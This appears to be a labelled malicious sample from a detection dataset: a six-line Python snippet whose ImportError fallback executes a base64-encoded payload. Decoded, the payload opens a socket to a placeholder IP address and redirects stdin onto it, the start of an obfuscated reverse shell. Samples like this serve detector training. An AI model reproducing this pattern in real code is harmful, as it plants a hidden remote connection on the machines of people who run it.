# label: malicious family=obfuscation techniques=T1027,T1059.006,T1095,T1140 lines=6
import base64
try:
    import numpy
except ImportError:
    exec(base64.b64decode("aW1wb3J0IHNvY2tldCxvcztzPXNvY2tldC5zb2NrZXQoKTtzLmNvbm5lY3QoKCIxOTIuMC4yLjk5Iiw4MCkpO29zLmR1cDIocy5maWxlbm8oKSwwKQ=="))
